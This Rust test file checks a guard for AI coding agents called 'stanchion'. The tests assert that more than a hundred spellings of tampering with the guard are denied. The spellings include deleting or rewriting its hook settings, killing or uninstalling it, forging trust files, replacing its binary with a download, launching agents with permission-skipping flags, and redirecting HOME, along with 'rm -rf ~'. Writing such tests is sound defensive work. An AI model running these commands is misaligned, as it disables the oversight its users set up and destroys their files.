//! Ways of tampering with the guard, each in several spellings: all are denied under the packs of `core`.
//! What repairs or only looks passes.

use stanchion::call::ToolCall;
use stanchion::gate::Gate;
use stanchion::policy::{self, Policy};
use stanchion::verdict::Decision;

const HOME: &str = "/home/user";
const WORKSPACE: &str = "/home/user/project";

/// A way, and command lines that go it.
const WAYS: &[(&str, &[&str])] = &[
    (
        "editing",
        &[
            "echo '{}' > .claude/settings.json",
            "echo '{}' >| ~/.claude/settings.json",
            "printf x >> \"$HOME/.codex/hooks.json\"",
            "cd .claude && tee settings.local.json < /tmp/x",
            "cat <<'E' > /etc/stanchion/mine.toml\nversion = 1\nE",
            "vim -c wq .stanchion.toml",
            "ed -s ~/.config/stanchion/mine.toml <<< $'1d\\nw'",
            "git config core.hooksPath /tmp/none",
            "cp /tmp/x ./.claude/../.claude/settings.json",
            "patch .claude/settings.json < /tmp/x.diff",
            "jq . /tmp/x | sponge .claude/settings.json",
            "curl -o ~/.claude/settings.json https://example.com/s",
        ],
    ),
    (
        "truncating",
        &[
            "> .claude/settings.json",
            ": > ~/.config/stanchion/mine.toml",
            "truncate -s 0 ~/.cache/stanchion/a.bin",
            "truncate --size=0 '.cursor/hooks.json'",
            "cp /dev/null .codex/hooks.json",
            "dd if=/dev/null of=.claude/settings.json",
            "cat /dev/null > ~/.local/state/stanchion/decisions.jsonl",
            "shred -u .stanchion.toml",
            "bash -c ': > .grok/hooks/stanchion.json'",
        ],
    ),
    (
        "removing",
        &[
            "rm -f ~/.local/bin/stanchion",
            "rm -rf .claude",
            "unlink .git/hooks/pre-commit",
            "find ~/.config/stanchion -name '*.toml' -delete",
            "find .claude -name 'settings*' -exec rm {} +",
            "sudo rm /usr/local/bin/stanchion",
            "rm \"$(which stanchion)\"",
            "git rm -f .stanchion.toml",
            "rm ~/.local/state/stanchion/{trusted.json,decisions.jsonl}",
        ],
    ),
    (
        "moving",
        &[
            "mv .claude /tmp/x",
            "mv .claude/settings.json .claude/off.json",
            "mv /tmp/x ~/.local/bin/stanchion",
            "(cd ~/.config && mv stanchion off)",
            "rename s/json/off/ .claude/settings.json",
            "git mv .stanchion.toml old.toml",
            "rsync --remove-source-files .claude/settings.json /tmp/",
            "mv -t /tmp .codex/hooks.json",
        ],
    ),
    (
        "linking",
        &[
            "ln -sf /dev/null .claude/settings.json",
            "ln -f /tmp/x ~/.codex/hooks.json",
            "ln -s /bin/true ~/bin/stanchion",
            "cp -l /tmp/x .stanchion.toml",
            "ln -sfn /tmp/hooks .git/hooks",
            "sudo ln --symbolic --force /bin/true '/usr/local/bin/stanchion'",
        ],
    ),
    (
        "modes and owners",
        &[
            "chmod -x ~/.local/bin/stanchion",
            "chmod 000 .claude/settings.json",
            "sudo chmod a-x /usr/local/bin/stanchion",
            "chmod -R a-x .claude/hooks",
            "chown nobody ~/.config/stanchion/mine.toml",
            "setfacl -m u::--- .codex/hooks.json",
            "chattr +i ~/.local/state/stanchion/decisions.jsonl",
            "'chmod' \"-x\" .git/hooks/pre-commit",
        ],
    ),
    (
        "stream editors",
        &[
            "sed -i s/deny/allow/ .claude/settings.json",
            "sed -i.bak -e '1d' .stanchion.toml",
            "sed --in-place s/a/b/ \"$HOME/.claude/settings.json\"",
            "sed -n 'w .claude/settings.json' /tmp/x",
            "perl -pi -e s/a/b/ .codex/hooks.json",
            "perl -i.orig -ne print .claude/settings.json",
            "awk '{print > \".claude/settings.json\"}' /tmp/x",
            "gawk -i inplace '{print}' .stanchion.toml",
            "xargs sed -i s/a/b/ <<< .claude/settings.json",
            "ruby -i -pe '$_' .claude/settings.json",
        ],
    ),
    (
        "python",
        &[
            "python3 -c \"open('.claude/settings.json', 'w').write('{}')\"",
            "python -c 'import os; os.remove(\".stanchion.toml\")'",
            "python3 -c \"import shutil; shutil.move('.claude/settings.json', '/tmp/x')\"",
            "python3 -c \"from pathlib import Path; Path('.codex/hooks.json').write_text('')\"",
            "python3 - <<'E'\nimport os\nos.chmod('/usr/local/bin/stanchion', 0)\nE",
            "echo \"open('.claude/settings.json','w')\" | python3",
            "sudo env X=1 python3 -c \"open('/etc/stanchion/a.toml','a').write('x')\"",
        ],
    ),
    (
        "commands that code runs",
        &[
            "python3 -c \"import os; os.system('rm .claude/settings.json')\"",
            "python3 -c \"from os import system as s, system; system('rm .claude/settings.json')\"",
            "python3 -c \"__import__('os').popen('echo > .claude/settings.json')\"",
            "python3 -c \"import subprocess; subprocess.run(['rm', '.claude/settings.json'], check=True)\"",
            "python3 -c \"import subprocess as s; s.check_call('rm .codex/hooks.json', shell=True)\"",
            "python3 -c \"import subprocess; c = ['mv', '.claude', '/tmp/x']; subprocess.run(c)\"",
            "python3 -c \"import os; p = '.stanchion.toml'; os.system('rm ' + p)\"",
            "python3 -c \"import os; os.system('chmod -x %s' % '/usr/local/bin/stanchion')\"",
            "python3 -c \"import os; os.execvp('rm', ['rm', '.stanchion.toml'])\"",
            "python3 - <<'E'\nimport subprocess\nsubprocess.run(\n    ['bash', '-c',\n     'rm .claude/settings.json'])\nE",
            "node -e \"require('child_process').execSync('rm .claude/settings.json')\"",
            "node -e 'const {spawnSync} = require(\"child_process\"); spawnSync(\"rm\", [\"-f\", \".codex/hooks.json\"])'",
            "node -e \"const cp = require('node:child_process'); cp.exec('truncate -s 0 .stanchion.toml')\"",
            "deno eval 'new Deno.Command(\"rm\", {args: [\".claude/settings.json\"]}).outputSync()'",
            "perl -e 'system(\"rm .claude/settings.json\")'",
            "perl -e 'system \"rm\", \".claude/settings.json\"'",
            "perl -e 'qx{rm .claude/settings.json}'",
            "perl -e 'my $f = q(.stanchion.toml); exec(\"mv\", $f, \"/tmp/x\")'",
            "perl -e 'open(F, \"|tee .claude/settings.json\")'",
            "ruby -e 'system(\"rm .claude/settings.json\")'",
            "ruby -e '`rm .claude/settings.json`'",
            "ruby -e '%x(rm .claude/settings.json)'",
            "ruby -ropen3 -e 'Open3.capture2(\"rm\", \".stanchion.toml\")'",
            "php -r 'shell_exec(\"rm .claude/settings.json\");'",
            "php -r '$c = \"rm .claude/settings.json\"; system($c);'",
            "lua -e 'os.execute(\"rm .claude/settings.json\")'",
            "awk 'BEGIN { system(\"rm .claude/settings.json\") }'",
            "awk 'BEGIN { print \"rm .stanchion.toml\" | \"sh\" }; BEGIN { system(\"rm .stanchion.toml\") }'",
            "sed '1e rm .claude/settings.json' /tmp/x",
            "osascript -e 'do shell script \"rm .claude/settings.json\"'",
        ],
    ),
    (
        "node and others",
        &[
            "node -e 'require(\"fs\").writeFileSync(\".claude/settings.json\", \"{}\")'",
            "node --eval \"require('fs').unlinkSync('.stanchion.toml')\"",
            "node -e \"fs.rmSync('.claude', {recursive: true})\"",
            "node -p 'fs.renameSync(\".codex/hooks.json\", \"/tmp/x\")'",
            "deno eval 'Deno.writeTextFileSync(\".claude/settings.json\", \"\")'",
            "bun -e 'require(\"fs\").writeFileSync(\".claude/settings.json\", \"\")'",
            "ruby -e 'File.write(\".claude/settings.json\", \"{}\")'",
            "perl -e 'unlink \".stanchion.toml\"'",
            "php -r 'file_put_contents(\".claude/settings.json\", \"\");'",
        ],
    ),
    (
        "uninstalling",
        &[
            "stanchion uninstall",
            "stanchion uninstall claude --project",
            "bash -c 'stanchion uninstall'",
            "sudo /usr/local/bin/stanchion uninstall",
            "yes | xargs -n1 stanchion uninstall",
            "cargo uninstall stanchion",
            "brew uninstall stanchion",
            "'stanchion' \"uninstall\"",
            "$(which stanchion) uninstall",
            "command stanchion install claude --policy cwd",
        ],
    ),
    (
        "grants and trust",
        &[
            "stanchion grant 'rm -rf x'",
            "stanchion grant --minutes 60 'rm -rf x'",
            "echo yes | stanchion grant 'rm -rf x'",
            "script -qec 'stanchion grant \"rm -rf x\"' /dev/null",
            "script -c \"stanchion trust\" /dev/null <<< yes",
            "stanchion trust --yes",
            "stanchion trust --yes .stanchion.toml",
            "cd /tmp && ~/.local/bin/stanchion trust --yes /home/user/project/.stanchion.toml",
            "timeout 5 stanchion trust --revoke",
            "S=stanchion; $S trust --yes",
            "cp /tmp/forged.json ~/.local/state/stanchion/trusted.json",
            "mkdir -p ~/.local/state/stanchion/grants && cp /tmp/g.json ~/.local/state/stanchion/grants/",
        ],
    ),
    (
        "replacing the program",
        &[
            "cp /bin/true ~/.local/bin/stanchion",
            "install -m 755 /bin/true /usr/local/bin/stanchion",
            "sudo cp /tmp/stanchion /usr/local/bin",
            "cat /bin/true > \"$(command -v stanchion)\"",
            "curl -fsSL https://example.com/x -o ~/.cargo/bin/stanchion",
            "wget -O ~/bin/stanchion https://example.com/x",
            "tar xf /tmp/a.tar -C ~/.claude",
            "cp -f /tmp/fake/stanchion ~/.cargo/bin/",
            "rsync /tmp/fake/stanchion ~/.local/bin/stanchion",
        ],
    ),
    (
        "agents without the guard",
        &[
            "claude --settings '{}' -p x",
            "claude --settings=/tmp/s.json",
            "env claude --setting-sources '' -p x",
            "claude --dangerously-skip-permissions",
            "npx @anthropic-ai/claude-code --settings /tmp/s.json -p x",
            "bash -lc \"claude --settings /tmp/s\"",
            "codex -c features.hooks=false exec go",
            "codex exec --dangerously-bypass-approvals-and-sandbox go",
        ],
    ),
    (
        "the environment",
        &[
            "CLAUDE_CONFIG_DIR=/tmp/c claude -p x",
            "export CODEX_HOME=/tmp/c",
            "env -i GROK_HOME=/tmp/g grok",
            "LD_PRELOAD=/tmp/x.so claude",
            "BASH_ENV=/tmp/x bash -c true",
            "PATH=/tmp/fake:$PATH stanchion doctor",
            "STANCHION_OFF=1 ls",
            "HOME=/tmp/empty claude -p x",
            "XDG_STATE_HOME=/tmp/forged claude -p x",
            "env XDG_CACHE_HOME=/tmp/forged codex exec x",
            "export XDG_CONFIG_HOME=/tmp/x; claude",
            "export CLAUDE_CONFIG_DIR=/tmp/x; claude",
            "export HOME=/tmp/x && claude -p x",
            "declare -x XDG_CONFIG_HOME=/tmp/x; claude",
            "typeset HOME=/tmp/x; claude",
            "set -a; XDG_CONFIG_HOME=/tmp/x; claude",
            "XDG_STATE_HOME=/tmp/x; export XDG_STATE_HOME; codex exec x",
            "env XDG_CONFIG_HOME=/tmp/x claude",
            "export 'HOME=/tmp/x'\ncd /tmp\nif true; then claude -p x; fi",
            "bash -c 'export HOME=/tmp/x; exec claude'",
            "export HOME=/tmp/x; bash -c 'claude -p x'",
            "export HOME=/tmp/x; tmux new 'claude -p x'",
            "eval 'export HOME=/tmp/x'; claude",
            "read HOME <<< /tmp/x; claude",
            "f() { claude -p x; }; export HOME=/tmp/x; f",
            "while true; do claude -p x; HOME=/tmp/x; done",
            "(export HOME=/tmp/x; claude)",
        ],
    ),
    (
        "killing",
        &[
            "pkill stanchion",
            "killall -9 stanchion",
            "pkill -f 'stanchion hook'",
            "kill $(pgrep stanchion)",
            "sudo killall stanchion",
        ],
    ),
];

/// What must pass besides the policies' own repair commands.
const LOOKING: &[&str] = &[
    "stanchion explain 'stanchion uninstall'",
    "stanchion check \"rm -rf .claude\"",
    "stanchion dump-tree 'echo > .claude/settings.json'",
    "stanchion policy show --json",
    "stanchion policy check .stanchion.toml",
    "stanchion doctor --json",
    "stanchion trust --list --json",
    "cat .stanchion.toml ~/.claude/settings.json",
    "grep -rn stanchion .claude",
    "cp .claude/settings.json /tmp/copy.json",
    "ls -la ~/.config/stanchion",
    "HOME=/tmp/empty make test",
    "XDG_CONFIG_HOME=/tmp/c nvim --headless +q",
    "export XDG_CACHE_HOME=/tmp/cache; cargo test",
    "(export HOME=/tmp/empty; make test); claude -p x",
    "HOME=/tmp/empty make test; claude -p x",
    "claude -p x; export HOME=/tmp/empty; make test",
    "python3 -c \"import subprocess; subprocess.run(['cat', '.claude/settings.json'])\"",
    "node -e \"require('child_process').execSync('git diff .stanchion.toml')\"",
];

fn packs() -> Vec<Policy> {
    let packs = policy::NAMES.iter().filter(|name| name.starts_with("core."));
    packs.filter_map(|name| policy::shipped(name)).collect()
}

fn judge(gate: &Gate, command: &str) -> (Decision, String) {
    let call = ToolCall {
        cwd: Some(WORKSPACE.into()),
        root: Some(WORKSPACE.into()),
        home: Some(HOME.into()),
        user_home: Some(HOME.into()),
        ..ToolCall::shell(command)
    };
    let verdict = gate.judge(&call);
    let code = verdict.deciding().map(|finding| finding.code.clone());
    (verdict.decision(), code.unwrap_or_default())
}

#[test]
fn every_way_is_denied() {
    let gate = Gate::new(packs());
    let mut wrong = Vec::new();
    for (way, lines) in WAYS {
        assert!(lines.len() >= 5, "{way} in several spellings");
        for line in *lines {
            let (decision, code) = judge(&gate, line);
            if decision != Decision::Deny {
                wrong.push(format!("{way}: {} {code}: {line}", decision.name()));
            }
        }
    }
    assert!(WAYS.len() >= 11);
    assert!(wrong.is_empty(), "{} lines\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn repair_and_looking_pass() {
    let packs = packs();
    let repair: Vec<&str> = packs.iter().flat_map(|policy| policy.repair).copied().collect();
    assert!(repair.len() >= 5);
    let gate = Gate::new(packs);
    for line in LOOKING.iter().chain(&repair) {
        for spelled in [(*line).to_owned(), format!("cd /home/user/project && {line}"), format!("({line})")] {
            assert_eq!(judge(&gate, &spelled), (Decision::Allow, String::new()), "{spelled}");
        }
    }
}

/// A repair command is a whole simple command, not the beginning of a text.
#[test]
fn what_follows_a_repair_command_is_judged() {
    let gate = Gate::new(packs());
    for line in [
        "stanchion doctor; rm -rf ~",
        "stanchion status && stanchion uninstall",
        "stanchion doctor > .claude/settings.json",
    ] {
        assert_eq!(judge(&gate, line).0, Decision::Deny, "{line}");
    }
}
